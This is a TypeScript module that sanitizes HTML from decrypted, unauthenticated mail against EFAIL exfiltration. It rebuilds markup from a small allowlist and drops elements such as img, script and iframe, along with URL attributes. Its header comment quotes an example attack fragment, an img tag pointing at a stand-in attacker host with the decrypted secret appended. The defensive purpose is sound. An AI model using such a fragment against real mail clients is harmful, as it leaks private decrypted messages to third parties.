/**
 * HTML that must not reach out: what the gateway delivers from unauthenticated
 * (CBC) encryption, where a malleability gadget may have written any bytes into
 * the markup (EFAIL, docs/security.md section 3). A mail client that renders
 * `<img src="http://attacker/` followed by the decrypted secret sends the secret
 * away; so does a stylesheet, a form, a base URL, a refresh, a background.
 *
 * The input is parsed the way a browser parses it (parse5, the WHATWG HTML
 * algorithm) and written out again from an allowlist: formatting elements with
 * attributes that carry no URL, and text. Everything else goes:
 * - elements that fetch or run (img, script, style, link, meta, base, iframe,
 *   object, embed, video, audio, picture, source, form controls, svg, math, ...)
 *   with their content; an image leaves its alt text in brackets;
 * - unknown elements are unwrapped (their text stays);
 * - every attribute outside the allowlist (src, href, style, background, action,
 *   srcset, class, id, title, on*, ...), and allowlisted attributes whose value is
 *   more than a short plain token (no "(", ":", "/", "\\", quotes);
 * - comments (Outlook's conditional comments hold markup), the head, the doctype.
 * The output is built by this module, never copied: every text and attribute value
 * is escaped, so what a client parses is exactly the tree written here.
 *
 * Written for this purpose rather than taken from a sanitizer package: those
 * keep links, images and styles by default (they protect a page from script, not
 * a reader from fetches) and bring a CSS parser along; an allowlist this small is
 * easier to check than their configuration.
 */
import { parse } from 'parse5';

interface Node {
  nodeName: string;
  tagName?: string;
  namespaceURI?: string;
  attrs?: { name: string; value: string }[];
  childNodes?: Node[];
  value?: string;
}

const HTML_NS = 'http://www.w3.org/1999/xhtml';

/** Elements written out (with allowlisted attributes only). */
const KEPT = new Set([
  'a', 'abbr', 'address', 'article', 'aside', 'b', 'bdi', 'bdo', 'big', 'blockquote', 'br', 'caption', 'center', 'cite', 'code',
  'col', 'colgroup', 'dd', 'del', 'details', 'dfn', 'div', 'dl', 'dt', 'em', 'figcaption', 'figure', 'font', 'footer', 'h1', 'h2',
  'h3', 'h4', 'h5', 'h6', 'header', 'hr', 'i', 'ins', 'kbd', 'li', 'main', 'mark', 'nav', 'ol', 'p', 'pre', 'q', 's', 'samp',
  'section', 'small', 'span', 'strike', 'strong', 'sub', 'summary', 'sup', 'table', 'tbody', 'td', 'tfoot', 'th', 'thead', 'time',
  'tr', 'tt', 'u', 'ul', 'var', 'wbr',
]);

/** Elements dropped with everything inside them. */
const DROPPED = new Set([
  'head', 'title', 'script', 'style', 'template', 'noscript', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'param',
  'link', 'meta', 'base', 'video', 'audio', 'source', 'track', 'picture', 'canvas', 'map', 'area', 'input', 'select', 'option',
  'optgroup', 'datalist', 'textarea', 'button', 'noembed', 'noframes', 'xmp', 'plaintext', 'portal', 'svg', 'math', 'image',
  'fencedframe', 'dialog', 'menu', 'slot',
]);

const VOID = new Set(['br', 'hr', 'wbr', 'col']);

/** Attributes that carry layout or language, never a URL. */
const KEPT_ATTRIBUTES = new Set([
  'align', 'valign', 'dir', 'lang', 'colspan', 'rowspan', 'width', 'height', 'border', 'cellpadding', 'cellspacing', 'color',
  'bgcolor', 'size', 'face', 'start', 'reversed', 'span', 'nowrap', 'headers', 'scope', 'summary', 'clear', 'hspace', 'vspace',
  'char', 'charoff', 'frame', 'rules', 'compact',
]);
/** A short value of letters, digits and a few layout characters: "100%", "#ff0000", "Arial, sans-serif". */
const PLAIN_VALUE = /^[\p{L}\p{N} #%.,_+-]{0,100}$/u;

/** Deeper nesting is written as its text only (a browser's parser nests as deep as it is told). */
const MAX_DEPTH = 256;

export interface NeutralizedHtml {
  /** A whole UTF-8 HTML document. */
  html: string;
  /** Elements and attributes removed (not counting unwrapped unknown elements). */
  removed: number;
}

export interface NeutralizeHtmlOptions {
  /** Plain text shown in a box above the content (a warning to the reader). */
  banner?: string;
  /** The document language (lang of the html element). */
  lang?: string;
}

export function neutralizeHtml(input: string, options: NeutralizeHtmlOptions = {}): NeutralizedHtml {
  const doc = parse(input) as unknown as Node & { mode?: string };
  const html = doc.childNodes?.find((n) => n.nodeName === 'html');
  const body = html?.childNodes?.find((n) => n.nodeName === 'body');
  // The document type that puts a parser in the mode this tree was built in (a <table>
  // closes an open <p> in no-quirks mode only), so that a client builds the same tree.
  const doctype = doc.mode === 'no-quirks' ? '<!DOCTYPE html>\n' : doc.mode === 'limited-quirks' ? '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN">\n' : '';
  const out: string[] = [doctype, '<html', options.lang ? ` lang="${escapeAttribute(options.lang)}"` : '', '><head><meta charset="utf-8"></head><body>'];
  if (options.banner) out.push(`<table border="1" cellpadding="8" width="100%"><tr><td bgcolor="#fff3cd">${escapeText(options.banner).replace(/\n/g, '<br>')}</td></tr></table>\n`);
  const removed = body ? writeChildren(body, out) : 0;
  out.push('</body></html>');
  return { html: out.join(''), removed };
}

type Step = { node: Node; depth: number } | { close: string };

/** Writes `parent`'s children; iterative, so hostile nesting cannot exhaust the stack. */
function writeChildren(parent: Node, out: string[]): number {
  let removed = 0;
  const stack: Step[] = [...(parent.childNodes ?? [])].reverse().map((node) => ({ node, depth: 1 }));
  while (stack.length > 0) {
    const step = stack.pop()!;
    if ('close' in step) {
      out.push(`</${step.close}>`);
      continue;
    }
    const { node, depth } = step;
    if (node.nodeName === '#text') {
      out.push(escapeText(node.value ?? ''));
      continue;
    }
    if (node.nodeName.startsWith('#')) {
      if (node.nodeName === '#comment') removed++;
      continue;
    }
    const tag = (node.tagName ?? node.nodeName).toLowerCase();
    const children = (node.childNodes ?? []).map((c) => ({ node: c, depth: depth + 1 })).reverse();
    if (node.namespaceURI !== undefined && node.namespaceURI !== HTML_NS) {
      removed++;
      continue;
    }
    if (tag === 'img') {
      removed++;
      const alt = node.attrs?.find((a) => a.name === 'alt')?.value.trim();
      out.push(alt ? `[${escapeText(alt.slice(0, 200))}]` : '');
      continue;
    }
    if (DROPPED.has(tag)) {
      removed++;
      continue;
    }
    if (!KEPT.has(tag) || depth > MAX_DEPTH) {
      // Unknown or too deep: the text stays, the element does not.
      stack.push(...children);
      continue;
    }
    let attributes = '';
    for (const a of node.attrs ?? []) {
      const name = a.name.toLowerCase();
      const ok = KEPT_ATTRIBUTES.has(name) && PLAIN_VALUE.test(a.value);
      if (ok) attributes += ` ${name}="${escapeAttribute(a.value)}"`;
      else removed++;
    }
    out.push(`<${tag}${attributes}>`);
    if (VOID.has(tag)) continue;
    // The HTML parser drops one newline right after <pre>: write it back so the text keeps it.
    if (tag === 'pre' && children[children.length - 1]?.node.value?.startsWith('\n')) out.push('\n');
    stack.push({ close: tag }, ...children);
  }
  return removed;
}

function escapeText(s: string): string {
  return s.replace(/[&<>\u00a0]/g, (c) => (c === '&' ? '&amp;' : c === '<' ? '&lt;' : c === '>' ? '&gt;' : '&nbsp;'));
}

function escapeAttribute(s: string): string {
  return s.replace(/[&"<>\u00a0]/g, (c) => (c === '&' ? '&amp;' : c === '"' ? '&quot;' : c === '<' ? '&lt;' : c === '>' ? '&gt;' : '&nbsp;'));
}
